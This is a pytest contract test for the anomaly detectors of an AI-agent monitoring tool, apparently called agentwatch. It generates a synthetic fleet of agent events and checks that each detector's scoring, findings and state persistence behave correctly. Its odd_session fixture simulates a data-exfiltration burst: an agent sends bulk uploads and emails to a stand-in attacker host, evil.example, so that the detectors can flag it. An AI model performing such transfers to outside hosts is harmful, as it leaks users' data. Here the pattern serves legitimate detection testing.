"""The contract every registered detector passes (river's one generic test per estimator).

For each entry of the registry, built from default settings and fed a synthetic fleet the
way the engine feeds it (score first, learn only what was not flagged): it is exactly one
kind of detector, named as registered; scoring is idempotent and teaches nothing; every
finding is well formed (its own name, ``0 < p <= 1``, an explanation, its event ids); its
per-agent state is plain data that survives msgpack and a restore into a fresh detector,
stays small, and a restored detector scores as the original; it runs inside the engine.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec
import pytest

from agentwatch.config import DetectSettings
from agentwatch.features.aggregate import WindowAggregator
from agentwatch.features.context import EventContext, SessionTracker
from agentwatch.features.windows import WindowFeatures
from agentwatch.models import catalog  # noqa: F401  (registers the built-in detectors)
from agentwatch.models.base import REGISTRY, EventDetector, Finding, WindowDetector
from agentwatch.models.engine import DetectionEngine
from agentwatch.schemas.anomaly import Contribution
from agentwatch.schemas.events import Destination, Event

T0 = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
AGENTS = ("contract-a", "contract-b", "contract-c")
TOOLS = ("search", "read_file", "send_email", "http_post")
HOSTS = ("api.example.com", "mail.example.com", "files.example.com")
STATE_BYTES = 4096  # per agent, for a fleet with a handful of tools and places
LEARN_BELOW_P = 0.1  # the engine's learn_below_score (25)
_ids = itertools.count()


def _event(agent: str, t: float, session: str, **fields: Any) -> Event:
    return Event(
        schema_version="1",
        event_id=f"c{next(_ids)}",
        ts=T0 + timedelta(seconds=t),
        agent_id=agent,
        agent_type="contract",
        session_id=session,
        **fields,
    )


def fleet(rng: random.Random, sessions: int = 120) -> Iterator[Event]:
    """Three agents of one peer group: sessions of tool calls, LLM calls, metrics, secrets."""
    t = 0.0
    for s in range(sessions):
        for agent in AGENTS:
            session = f"{agent}-s{s}"
            yield _event(agent, t, session, type="session_start")
            for step in range(rng.randrange(4, 10)):
                t += rng.uniform(0.5, 3.0)
                tool = TOOLS[step % len(TOOLS)]
                host = HOSTS[rng.randrange(len(HOSTS))]
                yield _event(
                    agent,
                    t,
                    session,
                    type="tool_call",
                    tool_name=tool,
                    tool_args={
                        "to": f"user{rng.randrange(3)}@example.com",
                        "body": rng.choice(("status?", "thanks", "see attached", "done")),
                    },
                    destinations=[Destination(kind="host", value=host)],
                    bytes_in=rng.randrange(200, 2000),
                    bytes_out=rng.randrange(100, 900),
                    duration_ms=rng.uniform(20, 200),
                )
                if step % 3 == 0:
                    yield _event(
                        agent,
                        t,
                        session,
                        type="llm_call",
                        tokens_in=800,
                        tokens_out=90,
                        cost_usd=0.002,
                        duration_ms=400.0,
                    )
            if s % 10 == 0:
                yield _event(agent, t, session, type="secret_access", secret_name="vault:kv/api")
            yield _event(agent, t, session, type="metric", metrics={"cpu": rng.uniform(20, 40)})
            yield _event(agent, t + 1, session, type="session_end")
            t += rng.uniform(20.0, 90.0)


def odd_session(t: float) -> list[Event]:
    """Everything unusual at once: a burst, a new tool and place, a payload, a CPU spike."""
    agent, session = AGENTS[0], "contract-odd"
    events = [
        _event(
            agent,
            t + i * 0.01,
            session,
            type="tool_call",
            tool_name="upload" if i % 2 else "send_email",
            tool_args={"to": "drop@evil.example", "body": "dump " * 200},
            destinations=[Destination(kind="host", value="evil.example")],
            bytes_out=5_000_000,
            bytes_in=10,
        )
        for i in range(200)
    ]
    events.append(_event(agent, t + 3, session, type="metric", metrics={"cpu": 99.0}))
    return events


Item = tuple[Event, EventContext] | WindowFeatures


def items(events: list[Event]) -> list[tuple[Item, ...]]:
    """What each kind of detector sees: events with their context, or closed windows."""
    tracker, aggregator = SessionTracker(), WindowAggregator()
    out: list[tuple[Item, ...]] = []
    for event in events:
        ctx = tracker.observe(event)
        closed = aggregator.add(event, ctx) + aggregator.advance(event.ts)
        out.append(((event, ctx), *closed))
    out.append(tuple(aggregator.flush()))
    return out


def score(detector: Any, item: Item) -> Finding | None:
    if isinstance(item, WindowFeatures):
        found: Finding | None = detector.score(item)
    else:
        found = detector.score(*item)
    return found


def learn(detector: Any, item: Item) -> None:
    if isinstance(item, WindowFeatures):
        detector.learn(item)
    else:
        detector.learn(*item)


def relevant(detector: Any, step: tuple[Item, ...]) -> list[Item]:
    if isinstance(detector, EventDetector):
        return [i for i in step if not isinstance(i, WindowFeatures)]
    return [i for i in step if isinstance(i, WindowFeatures)]


def check_finding(name: str, finding: Finding) -> None:
    assert finding.detector == name
    assert 0.0 < finding.p <= 1.0
    assert 0.0 <= finding.min_score <= 100.0
    assert isinstance(finding.explanation, str)
    assert finding.explanation
    assert finding.event_ids
    assert all(isinstance(e, str) for e in finding.event_ids)
    assert all(isinstance(c, Contribution) for c in finding.contributions)
    assert all(isinstance(k, str) and k for k in finding.keys)
    msgspec.msgpack.encode(list(finding.contributions))


@pytest.fixture(scope="module")
def stream() -> list[tuple[Item, ...]]:
    events = list(fleet(random.Random(7)))
    events += odd_session(events[-1].ts.timestamp() - T0.timestamp() + 60.0)
    return items(events)


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_detector_contract(name: str, stream: list[tuple[Item, ...]]) -> None:
    settings = DetectSettings()
    detector = REGISTRY[name](settings)
    assert detector.name == name
    # every detector has the window shape; event detectors (the engine tells them apart by
    # ``accept``) also take analyst feedback
    assert isinstance(detector, WindowDetector)
    assert detector.agents() == 0
    assert detector.state_of("nobody") is None

    findings: list[Finding] = []
    probes: list[Item] = []
    for step in stream:
        for item in relevant(detector, step):
            first = score(detector, item)
            again = score(detector, item)  # idempotent: scoring teaches nothing
            assert (first is None) == (again is None)
            if first is not None and again is not None:
                assert first.p == again.p
                check_finding(name, first)
                findings.append(first)
            if first is None or first.p > LEARN_BELOW_P:
                learn(detector, item)
            else:
                observe = getattr(detector, "observe", None) or getattr(detector, "witness", None)
                if observe is not None:
                    observe(*((item,) if isinstance(item, WindowFeatures) else item))
            probes.append(item)

    states = {agent: detector.state_of(agent) for agent in AGENTS}
    assert detector.agents() >= sum(1 for state in states.values() if state is not None)
    for agent, state in states.items():
        if state is None:
            continue
        blob = msgspec.msgpack.encode(state)
        assert len(blob) <= STATE_BYTES, f"{name}: {len(blob)} bytes of state for {agent}"
        restored = REGISTRY[name](settings)
        restored.load_state(agent, msgspec.msgpack.decode(blob))
        assert msgspec.msgpack.encode(restored.state_of(agent)) == blob
        group_state_of = getattr(detector, "group_state_of", None)
        if group_state_of is not None:
            group = group_state_of("contract")
            if group is not None:
                decoded = msgspec.msgpack.decode(msgspec.msgpack.encode(group))
                restored.load_group_state("contract", decoded)
        for probe in probes[-30:]:
            target = probe.agent_id if isinstance(probe, WindowFeatures) else probe[1].agent_id
            if target != agent:
                continue
            original, again = score(detector, probe), score(restored, probe)
            assert (original is None) == (again is None), f"{name}: restore changes scores"
            if original is not None and again is not None:
                # states may be stored rounded (fixed point, 4 significant digits)
                assert original.p == pytest.approx(again.p, rel=1e-2)

    detector.forget_agent(AGENTS[1])  # a revert to a snapshot without this agent
    assert detector.state_of(AGENTS[1]) is None

    if isinstance(detector, EventDetector):
        detector.accept(AGENTS[0], ["unrelated/key"])
    rebaseline = getattr(detector, "rebaseline", None)
    if rebaseline is not None:
        rebaseline(AGENTS[0])


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_detector_runs_alone_in_the_engine(name: str) -> None:
    engine = DetectionEngine(DetectSettings(detectors=[name]))
    events = list(fleet(random.Random(8), sessions=40))
    events += odd_session(events[-1].ts.timestamp() - T0.timestamp() + 60.0)
    anomalies = [a for e in events for a in engine.process(e).anomalies]
    anomalies += engine.flush().anomalies
    for anomaly in anomalies:
        assert anomaly.detector == name or anomaly.detector.startswith("flow_rule:")
        assert 0 <= anomaly.score <= 100
